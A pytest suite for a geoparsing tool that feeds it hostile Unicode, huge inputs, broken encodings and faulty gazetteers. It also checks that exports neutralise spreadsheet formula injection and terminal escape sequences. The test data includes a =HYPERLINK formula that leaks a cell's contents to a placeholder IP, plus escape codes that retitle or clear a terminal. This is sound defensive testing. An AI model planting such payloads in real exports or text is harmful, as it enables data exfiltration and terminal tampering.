"""Hostile and broken input: arbitrary Unicode, pathological sizes, encodings, bad gazetteers.

Nothing here times anything: linearity in size is shown by ``bench/pathological.py``.
These tests check that such input finishes, that every span still points at its text,
that output is deterministic, and that a user mistake gets one clear line, not a traceback.
"""

from __future__ import annotations

import bisect
import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.articles import parse_article, read_article
from geo.errors import ArticleError, GazetteerError
from geo.events import Extraction, extract, extract_events, extract_zones
from geo.gazetteer import DEFAULT_GAZETTEER, Gazetteer, load_gazetteer
from geo.geoparse import find_mentions
from geo.models import Article, Mention
from geo.world import WorldIndex, load_world

ROOT = Path(__file__).resolve().parent.parent
SEEDS = sorted((ROOT / "seeds").glob("*.txt"))
PROSE = "\n\n".join(path.read_text(encoding="utf-8") for path in SEEDS)

HOSTILE = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.fixture(scope="module")
def gazetteer() -> Gazetteer:
    return load_gazetteer()


@pytest.fixture(scope="module")
def world() -> WorldIndex:
    return load_world()


def assert_spans_valid(text: str, mentions: Sequence[Mention]) -> None:
    """Every mention points at its own text, in order, inside the text."""
    starts = [m.start for m in mentions]
    assert starts == sorted(starts), "mentions are not sorted by start"
    for m in mentions:
        assert 0 <= m.start < m.end <= len(text), (m.start, m.end, len(text))
        assert text[m.start : m.end] == m.text, (m.text, text[m.start : m.end])


# --------------------------------------------------------------------------- properties

# Place names and the punctuation around them, so that generated text hits the matcher
# and its boundary rules, not only random code points that match nothing.
WORDS = (
    "Aleppo",
    "ALEPPO",
    "aleppo",
    "Sheikh Maqsood",
    "Castello Road",
    "Hmeimim",
    "Syria",
    "Syrian",
    "Damascus",
    "Moscow",
    "Geneva",
    "Paris",
    "New York",
    "Jordan",
    "Алеппо",
    "حلب",
    "eastern Aleppo",
    "Aleppo's",
    "al-",
    "-",
    "'",
    "\u2019",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\r\n",
    "\n\n",
    " ",
    ".",
    ",",
    "<b>",
    "${",
    "`",
    "\\",
    "e\u0301",
    "\U0001f600",
    "ﬁ",
    "İ",
    "ß",
)
hostile_text = st.one_of(
    st.text(max_size=400),
    st.lists(st.one_of(st.sampled_from(WORDS), st.text(max_size=8)), max_size=60).map("".join),
)


@HOSTILE
@given(text=hostile_text)
def test_find_mentions_survives_any_unicode(
    text: str, gazetteer: Gazetteer, world: WorldIndex
) -> None:
    mentions = find_mentions(text, gazetteer, world=world)
    assert_spans_valid(text, mentions)
    assert find_mentions(text, gazetteer, world=world) == mentions, "not deterministic"


@HOSTILE
@given(text=hostile_text, cuts=st.lists(st.integers(min_value=0, max_value=500), max_size=6))
def test_find_mentions_stays_inside_the_spans_it_is_given(
    text: str, cuts: list[int], gazetteer: Gazetteer, world: WorldIndex
) -> None:
    bounds = sorted({min(c, len(text)) for c in cuts})
    spans = [(bounds[i], bounds[i + 1]) for i in range(0, len(bounds) - 1, 2)]
    mentions = find_mentions(text, gazetteer, world=world, spans=spans)
    assert_spans_valid(text, mentions)
    for m in mentions:
        assert any(s <= m.start and m.end <= e for s, e in spans), (m, spans)


def assert_article_valid(article: Article) -> None:
    """Body spans lie inside the text, in order, and every sentence inside one of them."""
    n = len(article.text)
    body = article.body
    assert list(body) == sorted(body), "body spans are not in order"
    for s, e in body:
        assert 0 <= s <= e <= n
    starts = [s for s, _ in body]
    for s, e in article.sentences:
        i = bisect.bisect_right(starts, s) - 1
        assert i >= 0 and body[i][0] <= s <= e <= body[i][1], (s, e, body[max(i, 0)])


@settings(HOSTILE, max_examples=60)
@given(text=hostile_text)
def test_event_extraction_survives_any_unicode(
    text: str, gazetteer: Gazetteer, world: WorldIndex
) -> None:
    if not text.strip():
        text += " x"
    article = parse_article(text, path="hostile.txt", html=False)
    assert_article_valid(article)
    mentions = find_mentions(article.text, gazetteer, world=world, spans=article.body)
    assert_spans_valid(article.text, mentions)
    events = extract_events(article, mentions, gazetteer)
    zones = extract_zones(article, mentions, gazetteer)
    for found in (*events, *zones):
        assert 0 <= found.evidence_start <= found.evidence_end <= len(article.text)
        assert article.text[found.evidence_start : found.evidence_end] == found.evidence
    again = parse_article(text, path="hostile.txt", html=False)
    assert again == article, "parse_article is not deterministic"
    assert extract_events(again, mentions, gazetteer) == events, "events not deterministic"
    assert extract_zones(again, mentions, gazetteer) == zones, "zones not deterministic"


@settings(HOSTILE, max_examples=40)
@given(
    body=st.lists(st.sampled_from(WORDS) | st.text(max_size=12), max_size=40).map("".join),
    tag=st.sampled_from(["p", "script", "div", "a href='javascript:x'", "!--"]),
)
def test_html_articles_survive_any_markup(body: str, tag: str) -> None:
    html = f"<!doctype html><html><body><{tag}>{body}</{tag.split()[0]}><p>Aleppo</p></body></html>"
    article = parse_article(html, path="hostile.html", html=True)
    assert_article_valid(article)


# --------------------------------------------------------------------------- pathological


def test_one_name_repeated_100000_times_gives_100000_mentions(
    gazetteer: Gazetteer, world: WorldIndex
) -> None:
    text = "Aleppo " * 100_000
    mentions = find_mentions(text, gazetteer, world=world)
    assert len(mentions) == 100_000
    assert_spans_valid(text, mentions)
    assert {m.place.id for m in mentions} == {"aleppo"}
    assert [m.start for m in mentions[:3]] == [0, 7, 14]


def test_ten_megabytes_of_news_finds_the_same_places_in_every_copy(
    gazetteer: Gazetteer, world: WorldIndex
) -> None:
    unit = PROSE + "\n\n"
    copies = 10_000_000 // len(unit) + 1
    text = unit * copies
    assert len(text) >= 10_000_000
    one = find_mentions(unit, gazetteer, world=world)
    mentions = find_mentions(text, gazetteer, world=world)
    assert_spans_valid(text, mentions)
    assert len(mentions) == copies * len(one)
    first = [(m.start, m.end) for m in mentions[: len(one)]]
    assert first == [(m.start, m.end) for m in one]


def test_ten_megabyte_file_is_read_and_parsed(tmp_path: Path) -> None:
    unit = PROSE + "\n\n"
    path = tmp_path / "huge.txt"
    path.write_text(unit * (10_000_000 // len(unit) + 1), encoding="utf-8")
    article = read_article(path)
    assert len(article.text) >= 10_000_000
    assert article.sentences, "a 10 MB report has sentences"
    assert_article_valid(article)


def squashed(size: int) -> str:
    """Return ``size`` characters of the seed prose with every whitespace removed."""
    text = re.sub(r"\s+", "", PROSE)
    return (text * (size // len(text) + 1))[:size]


def test_text_without_whitespace_does_not_crash(gazetteer: Gazetteer, world: WorldIndex) -> None:
    text = squashed(1_000_000)
    mentions = find_mentions(text, gazetteer, world=world)
    assert_spans_valid(text, mentions)
    article = parse_article(text, path="squashed.txt", html=False)
    assert_article_valid(article)
    assert_spans_valid(text, find_mentions(text, gazetteer, world=world, spans=article.body))


def squashed_extraction(
    size: int, gazetteer: Gazetteer, world: WorldIndex
) -> tuple[str, Extraction]:
    """Return the text of ``size`` squashed characters and what the extractor made of it."""
    article = parse_article(squashed(size), path="squashed.txt", html=False)
    found = find_mentions(article.text, gazetteer, world=world, spans=article.body)
    return article.text, extract(article, found, gazetteer)


def test_short_text_without_whitespace_through_event_extraction(
    gazetteer: Gazetteer, world: WorldIndex
) -> None:
    text, extraction = squashed_extraction(5_000, gazetteer, world)
    assert all(text[e.evidence_start : e.evidence_end] == e.evidence for e in extraction.events)


def test_megabyte_without_whitespace_through_event_extraction(
    gazetteer: Gazetteer, world: WorldIndex
) -> None:
    text, extraction = squashed_extraction(1_000_000, gazetteer, world)
    assert all(text[e.evidence_start : e.evidence_end] == e.evidence for e in extraction.events)
    # A megabyte "sentence" is not prose: it is left out, and the reason says so.
    assert any("not prose" in line for line in extraction.dropped)


def test_all_capitals_still_finds_aleppo(gazetteer: Gazetteer, world: WorldIndex) -> None:
    text = PROSE.upper() * 20
    mentions = find_mentions(text, gazetteer, world=world)
    assert_spans_valid(text, mentions)
    assert all(m.text == m.text.upper() for m in mentions)
    assert "aleppo" in {m.place.id for m in mentions}
    article = parse_article(text, path="capitals.txt", html=False)
    assert_article_valid(article)
    found = find_mentions(article.text, gazetteer, world=world, spans=article.body)
    assert_spans_valid(article.text, found)
    events = extract_events(article, found, gazetteer)
    assert all(e.evidence_end <= len(article.text) for e in events)


# --------------------------------------------------------------------------- encodings

ENCODED = {
    "utf-8": ("Fighting in Aleppo, Genève talks, Алеппо — «corridor».\n", "utf-8"),
    "utf-8 with BOM": ("Fighting in Aleppo, Genève talks, Алеппо — «corridor».\n", "utf-8-sig"),
    "utf-16": ("Fighting in Aleppo, Genève talks, Алеппо — «corridor».\n", "utf-16"),
    "cp1251": (
        "Shelling in Aleppo on Saturday. Российские военные сообщили, что боевики "
        "обстреляли жилые кварталы Алеппо, погибли мирные жители.\n",
        "cp1251",
    ),
    "latin-1": (
        "Shelling in Aleppo on Saturday. Les négociations à Genève ont échoué; "
        "le ministère a déclaré que la trêve était rompue à Alep.\n",
        "latin-1",
    ),
}


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "geo", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=300,
        check=False,
    )


@pytest.fixture(scope="module")
def encoded_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("encodings")
    files = {}
    for i, (label, (text, codec)) in enumerate(ENCODED.items()):
        path = folder / f"{i}_{codec}.txt"
        path.write_bytes(text.encode(codec))
        files[label] = path
    return files


@pytest.mark.parametrize("label", list(ENCODED))
def test_read_article_decodes(label: str, encoded_files: dict[str, Path]) -> None:
    text, _ = ENCODED[label]
    article = read_article(encoded_files[label])
    assert article.text.replace("\r\n", "\n") == text
    assert not article.text.startswith("\ufeff"), "the byte-order mark is not text"


def test_toponyms_cli_offsets_point_into_each_decoded_file(encoded_files: dict[str, Path]) -> None:
    done = run_cli("toponyms", *(str(p) for p in encoded_files.values()))
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines() if line.strip()]
    assert len(lines) == len(encoded_files)
    for (label, path), record in zip(encoded_files.items(), lines, strict=True):
        text, _ = ENCODED[label]
        assert Path(record["file"]).name == path.name
        for m in record["mentions"]:
            assert text[m["start"] : m["end"]] == m["text"], (label, m)
        starts = {m["start"] for m in record["mentions"] if m["place_id"] == "aleppo"}
        assert text.index("Aleppo") in starts, (label, record["mentions"])


UNDECODABLE = {
    "binary with NUL bytes": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
    "UTF-8 with a stray byte": "Алеппо, Шейх-Максуд, Кастелло. ".encode() * 20 + b"\xff\xfe\xfd",
}


@pytest.mark.parametrize("label", list(UNDECODABLE))
def test_undecodable_bytes_give_one_line_naming_the_file(label: str, tmp_path: Path) -> None:
    path = tmp_path / "broken-article.txt"
    path.write_bytes(UNDECODABLE[label])
    with pytest.raises(ArticleError, match="broken-article.txt"):
        read_article(path)
    done = run_cli("toponyms", str(path))
    assert done.returncode != 0
    assert "Traceback" not in done.stderr
    message = done.stderr.strip()
    assert len(message.splitlines()) == 1, message
    assert "broken-article.txt" in message


# --------------------------------------------------------------------------- gazetteer


def gazetteer_rows() -> list[list[str]]:
    text = DEFAULT_GAZETTEER.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert all("\n" not in cell for row in rows for cell in row), "rows span lines"
    return [row for row in rows if row]


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def with_fault(column: str, value: str, *, row: int = -1) -> tuple[str, int]:
    """Return gazetteer CSV text with one cell changed and that row's line number."""
    rows = gazetteer_rows()
    index = row % (len(rows) - 1) + 1
    rows[index][rows[0].index(column)] = value
    return csv_text(rows), index + 1


def duplicate_id() -> tuple[str, int]:
    rows = gazetteer_rows()
    rows.append(list(rows[1]))
    return csv_text(rows), len(rows)


def missing_column() -> tuple[str, int]:
    rows = gazetteer_rows()
    rows[3] = rows[3][:-1]
    return csv_text(rows), 4


FAULTS = {
    "latitude outside [-90, 90]": lambda: with_fault("lat", "123.4"),
    "longitude not a number": lambda: with_fault("lon", "east", row=2),
    "unknown kind": lambda: with_fault("kind", "twon", row=5),
    "bad WKT": lambda: with_fault("geometry", "LINESTRING (37.1 36.2, oops)", row=0),
    "country not an ISO code": lambda: with_fault("country", "Syria", row=1),
    "empty id": lambda: with_fault("id", "", row=4),
    "duplicate id on the last line": duplicate_id,
    "a column missing": missing_column,
}


@pytest.mark.parametrize("fault", list(FAULTS))
def test_gazetteer_fault_names_file_and_line(
    fault: str, tmp_path: Path, gazetteer: Gazetteer
) -> None:
    text, line = FAULTS[fault]()
    bad = tmp_path / "bad.csv"
    bad.write_text(text, encoding="utf-8")
    before = (gazetteer.places, gazetteer.lookup("Aleppo"))
    with pytest.raises(GazetteerError, match=rf"bad\.csv:{line}: "):
        load_gazetteer(bad)
    assert (gazetteer.places, gazetteer.lookup("Aleppo")) == before, "loaded gazetteer changed"
    assert load_gazetteer().places == gazetteer.places, "a failed load poisoned the default"


def test_gazetteer_fault_through_the_cli(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    for fault, make in FAULTS.items():
        text, line = make()
        bad.write_text(text, encoding="utf-8")
        done = run_cli("toponyms", "--gazetteer", str(bad), str(SEEDS[0]))
        assert done.returncode != 0, fault
        assert "Traceback" not in done.stderr, (fault, done.stderr)
        message = done.stderr.strip()
        assert len(message.splitlines()) == 1, (fault, message)
        assert f"bad.csv:{line}: " in message, (fault, message)
        assert not done.stdout.strip(), f"{fault}: printed mentions from a broken gazetteer"


def test_not_utf8_gazetteer_names_the_line(tmp_path: Path) -> None:
    rows = gazetteer_rows()
    data = csv_text(rows).encode("utf-8").split(b"\n")
    data[6] = data[6].replace(b"Alep", b"Al\xe9p", 1) if b"Alep" in data[6] else data[6] + b"\xe9"
    bad = tmp_path / "bad.csv"
    bad.write_bytes(b"\n".join(data))
    with pytest.raises(GazetteerError, match=r"bad\.csv:7: "):
        load_gazetteer(bad)


def test_broken_row_at_the_end_never_gives_a_half_loaded_gazetteer(tmp_path: Path) -> None:
    rows = gazetteer_rows()
    path = tmp_path / "places.csv"
    good = csv_text(rows)
    path.write_text(good + "late-row,Late Row,city,95,10,SY,,,1000,test,\n", encoding="utf-8")
    with pytest.raises(GazetteerError, match=rf"places\.csv:{len(rows) + 1}: latitude"):
        load_gazetteer(path)
    path.write_text(good, encoding="utf-8")
    fixed = load_gazetteer(path)
    assert len(fixed.places) == len(rows) - 1, "a fixed file loads every row"


# ------------------------------------------- what leaves the machine: files and terminal

# Titles and sentences a hostile or unlucky article brings: spreadsheet formulas, and the
# control characters XML 1.0 forbids (a form feed is common in text copied out of a PDF).
HOSTILE_TITLES = {
    "formula-at": "@SUM(1+1) Aleppo shelling\x1b[31m turns red",
    "formula-plus": "+Aleppo clashes\x0cpage two of the PDF",
    "formula-minus": "-2 dead in Aleppo\x0bafter a vertical tab",
    "formula-spaces": '  =HYPERLINK("http://203.0.113.9/?"&A1,"more") Aleppo',
    "non-character": "Aleppo shelling \ufffe\uffff resumes",
}
HOSTILE_BODY = (
    "ALEPPO, September 18 (Wire Service) - Government forces shelled Aleppo on Saturday, "
    "killing 12 civilians, the health ministry said.\x0c=Reporters could not verify it.\n"
)


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-articles")
    for name, title in HOSTILE_TITLES.items():
        text = f"{title}\n\nWire Service September 18, 2016, 10:00\n\n{HOSTILE_BODY}"
        (folder / f"{name}.txt").write_text(text, encoding="utf-8")
    out = tmp_path_factory.mktemp("hostile-out")
    done = run_cli("build", str(folder), "--out", str(out), "--no-world")
    assert done.returncode == 0, done.stderr
    return out


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
            '\'=HYPERLINK("http://203.0.113.9/?"&A1,"x")',
        ),
        ("+7 killed", "'+7 killed"),
        ("-2 dead in Aleppo", "'-2 dead in Aleppo"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("   =1+1", "'   =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Aleppo", "Aleppo"),
        ("Shelling in Aleppo: 2 = too many", "Shelling in Aleppo: 2 = too many"),
        ("", ""),
    ],
    ids=[
        "hyperlink formula",
        "plus",
        "minus",
        "at sign",
        "tab",
        "carriage return",
        "spaces before the equals sign",
        "full-width equals sign",
        "plain place name",
        "equals sign inside the text",
        "empty cell",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str, shown: str) -> None:
    from geo.export import spreadsheet_safe

    assert spreadsheet_safe(cell) == shown


def test_no_text_cell_of_events_csv_starts_a_formula(hostile_build: Path) -> None:
    from geo.export import ACLED_COLUMNS

    text = (hostile_build / "events.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and list(rows[0]) == list(ACLED_COLUMNS)
    numbers = {"latitude", "longitude", "year", "fatalities", "evidence_start", "evidence_end"}
    for row in rows:
        for column, cell in row.items():
            if column not in numbers:
                assert cell.lstrip(" ")[:1] not in set("=+-@\t\r"), (column, cell)
    titles = {row["title"] for row in rows}
    assert any(title.startswith("'@SUM(1+1) Aleppo") for title in titles), titles
    assert all(float(row["latitude"]) > 35 for row in rows), "coordinates stay numbers"


def test_kml_with_forbidden_characters_is_well_formed_xml(hostile_build: Path) -> None:
    import lxml.etree
    import pyogrio

    path = hostile_build / "map.kml"
    tree = lxml.etree.parse(str(path), lxml.etree.XMLParser(recover=False))
    names = [n.text or "" for n in tree.iter("{http://www.opengis.net/kml/2.2}name")]
    assert any("page two of the PDF" in name for name in names), names
    events = pyogrio.read_dataframe(path, layer="events")
    assert len(events) >= len(HOSTILE_TITLES) - 1
    assert not any(re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", t) for t in names)


def test_gpkg_keeps_the_text_after_a_control_character(hostile_build: Path) -> None:
    import pyogrio

    events = pyogrio.read_dataframe(hostile_build / "map.gpkg", layer="events")
    titles = " | ".join(events["title"].dropna())
    assert "page two of the PDF" in titles and "after a vertical tab" in titles
    assert "could not verify it" in " ".join(events["evidence"].dropna())


def test_gpkg_text_is_not_cut_at_a_nul(tmp_path: Path) -> None:
    """A NUL cannot come from a file (that is binary), but can from pasted or HTML text."""
    import pyogrio
    from test_layers import sample_corpus, sample_gazetteer

    from geo.export import write_gpkg, write_kml
    from geo.layers import build_layers

    layers = build_layers(sample_corpus(hostile=True), sample_gazetteer())
    layers.events["title"] = "before the NUL\x00after the NUL"
    write_gpkg(layers, tmp_path / "map.gpkg")
    write_kml(layers, tmp_path / "map.kml")
    for name in ("map.gpkg", "map.kml"):
        titles = pyogrio.read_dataframe(tmp_path / name, layer="events")["title"]
        assert set(titles) == {"before the NUL after the NUL"}, name


def test_a_file_name_that_is_not_utf8_builds_without_a_traceback(tmp_path: Path) -> None:
    import os

    folder = tmp_path / "articles"
    folder.mkdir()
    name = os.fsdecode(b"caf\xe9-report.txt")
    (folder / name).write_bytes(SEEDS[0].read_bytes())
    done = run_cli("build", str(folder), "--out", str(tmp_path / "out"), "--no-world")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out/events.csv").read_text("utf-8"))))
    assert rows and {row["article"] for row in rows} == {"caf\\xe9-report"}


def test_the_build_summary_shows_escape_sequences_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    body = HOSTILE_BODY.replace("Government forces", "\x1b]0;owned\x07\x1b[2J Government forces")
    text = "Shelling\n\nWire Service September 18, 2016, 10:00\n\n" + body + body
    (folder / "a\x1b[31m.txt").write_text(text, encoding="utf-8")
    done = run_cli("build", str(folder), "--out", str(tmp_path / "out"), "--no-world")
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout
    assert "a\\u001b[31m" in done.stdout, done.stdout


@pytest.mark.parametrize(
    "out",
    ["articles", "articles/out", "articles/./deeper/out"],
    ids=["the articles folder", "a folder in it", "a folder deeper in it"],
)
def test_an_output_folder_inside_the_articles_folder_is_refused(tmp_path: Path, out: str) -> None:
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_bytes(SEEDS[0].read_bytes())
    done = run_cli("build", str(folder), "--out", str(tmp_path / out), "--no-world")
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert "inside the articles folder" in done.stderr
    assert sorted(p.name for p in folder.iterdir()) == ["a.txt"], "nothing was written"
